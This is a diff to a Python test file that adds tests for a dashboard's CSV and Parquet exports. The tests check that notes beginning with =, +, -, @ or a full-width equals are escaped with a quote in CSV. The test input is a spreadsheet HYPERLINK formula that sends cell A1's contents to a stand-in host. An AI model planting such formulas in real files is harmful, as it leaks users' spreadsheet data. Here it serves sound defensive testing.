@@ -11,6 +11,7 @@ import pytest
 import db.engine
 import db.migrate
 import db.read
+from dashapp import exports
 from dashapp.app import create_app
 from dashapp.pages import cases_saved
 from db import annotations
@@ -58,6 +59,22 @@ def test_both_forms_have_the_same_rows_and_what_people_wrote(client):
     assert (first["tags"], first["note"]) == ("odd, sky", 'two lines,\n"quoted"')
     assert (plain[0]["tags"], plain[0]["note"]) == (first["tags"], first["note"])
     assert first["verdict"] is None
+
+
+@pytest.mark.parametrize("sign", ["=", "+", "-", "@", "＝"])
+def test_a_note_that_is_a_formula_is_none_in_the_csv_and_itself_in_parquet(engine, client, sign):
+    formula = sign + 'HYPERLINK("http://elsewhere/?"&A1)'
+    with db.engine.writing(engine) as connection:
+        annotations.set_note(connection, 10, formula)
+    (row,) = csv.DictReader(io.StringIO(client.get("/pixels/export/cases.csv?find=10").text))
+    assert row["note"] == "'" + formula
+    parquet = client.get("/pixels/export/cases.parquet?find=10").data
+    assert pyarrow.parquet.read_table(io.BytesIO(parquet))["note"].to_pylist() == [formula]
+
+
+def test_numbers_and_what_begins_otherwise_stay_as_they_are_in_the_csv():
+    rows = [(-1.5, -2, None, True, "a-b", "'=quoted", "")]
+    assert list(exports.as_csv(iter([rows])))[1] == "-1.5,-2,,True,a-b,'=quoted,\r\n"
 
 
 def test_a_list_without_cases_is_a_file_without_rows(client):
